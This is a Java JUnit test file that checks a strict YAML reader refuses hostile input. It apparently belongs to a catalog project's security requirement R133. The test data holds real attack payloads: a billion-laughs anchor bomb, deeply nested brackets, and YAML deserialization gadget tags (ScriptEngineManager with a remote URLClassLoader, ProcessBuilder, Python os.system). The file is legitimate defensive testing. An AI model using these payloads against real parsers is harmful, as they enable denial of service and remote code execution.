package dev.latchkey.catalog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.io.IOException;
import java.nio.channels.Channels;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** R133: YAML that is made to hurt its reader. */
class StrictYamlTest {

    @Test
    @DisplayName("R133 refuses nine levels of laughs")
    void refusesBillionLaughs() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int level = 1; level <= 9; level++) {
            String previous = "*a" + (level - 1);
            bomb.append("a%d: &a%d [%s]\n".formatted(level, level, (previous + ", ").repeat(8) + previous));
        }
        assertRefused(bomb.toString(), "anchors");
    }

    @Test
    @DisplayName("R133 refuses a million open brackets, and fewer")
    void refusesDeepNesting() {
        assertRefused("id: " + "[".repeat(1_000_000), "longer than");
        assertRefused("id: " + "[".repeat(200_000), "deep");
        assertRefused("id: " + "{a: ".repeat(50_000), "deep");
        assertRefused("id: " + "[".repeat(21) + "]".repeat(21), "deep");
    }

    @Test
    @DisplayName("R133 refuses deep block sequences")
    void refusesDeepBlocks() {
        assertRefused("id:\n" + "- ".repeat(100_000) + "x", "deep");
    }

    @Test
    @DisplayName("R133 refuses a 50 MB scalar without reading it")
    void refusesALargeFile(@TempDir Path folder) throws IOException {
        Path large = folder.resolve("large.yaml");
        try (var channel = Files.newByteChannel(
                        large, java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.WRITE);
                var out = Channels.newOutputStream(channel)) {
            out.write("notes: ".getBytes(StandardCharsets.US_ASCII));
            byte[] block = "x".repeat(1_000_000).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 50; i++) {
                out.write(block);
            }
        }
        assertThatExceptionOfType(CatalogFileException.class)
                .isThrownBy(() -> TestCatalog.with(folder))
                .withMessageContaining("large.yaml")
                .withMessageContaining("longer than");
    }

    @ParameterizedTest
    @DisplayName("R133 refuses tags, anchors, loops, merges and duplicate keys")
    @ValueSource(
            strings = {
                "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                "!!javax.script.ScriptEngineManager {}",
                "id: !!java.lang.ProcessBuilder [[id]]",
                "id: !local x",
                "id: !!str x",
                "id: !!binary aGk=",
                "id: !!python/object/apply:os.system [id]",
                "%TAG ! tag:yaml.org,2002:javax.script.\n---\nid: !ScriptEngineManager []",
                "id: &a [*a]",
                "&a id: *a",
                "&a ? *a\n: x",
                "a: &x {b: *x}",
                "id: &x y",
                "id: *x",
                "base: &b {k: v}\nid:\n  <<: *b",
                "<<: {id: x}",
                "<<: [{id: x}, {id: y}]",
                "id: a\nid: b",
                "endpoints: {a: 1, a: 2}",
                "id: a\n---\nid: b",
                "[]",
                "text",
                "",
                "# nothing",
                "1: x",
                "? [a]\n: x",
                "id: \u0000",
                "id: a\n\tb: c",
                "id: 'open"
            })
    void refusesEverythingBeyondPlainYaml(String text) {
        assertRefused(text, "bomb.yaml");
    }

    @Test
    void refusesWhatIsNotUtf8() {
        assertThatExceptionOfType(CatalogFileException.class)
                .isThrownBy(() -> StrictYaml.read("bomb.yaml", new byte[] {'i', 'd', ':', ' ', (byte) 0xC3, 0x28}))
                .withMessageContaining("UTF-8");
    }

    @Test
    void namesTheLine() {
        assertThatExceptionOfType(CatalogFileException.class)
                .isThrownBy(() -> StrictYaml.read("bomb.yaml", "id: a\nname: &x b\n".getBytes(StandardCharsets.UTF_8)))
                .withMessageContaining("line 2");
    }

    @Test
    void readsPlainYaml() {
        assertThat(StrictYaml.read("a.yaml", "a: {b: [1, x, true]}\nc: >-\n  d\n  e".getBytes(StandardCharsets.UTF_8)))
                .hasToString("{\"a\":{\"b\":[1,\"x\",true]},\"c\":\"d e\"}");
    }

    private static void assertRefused(String text, String message) {
        assertThatExceptionOfType(CatalogFileException.class)
                .isThrownBy(() -> StrictYaml.read("bomb.yaml", text.getBytes(StandardCharsets.UTF_8)))
                .withMessageContaining("bomb.yaml")
                .withMessageContaining(message);
    }
}
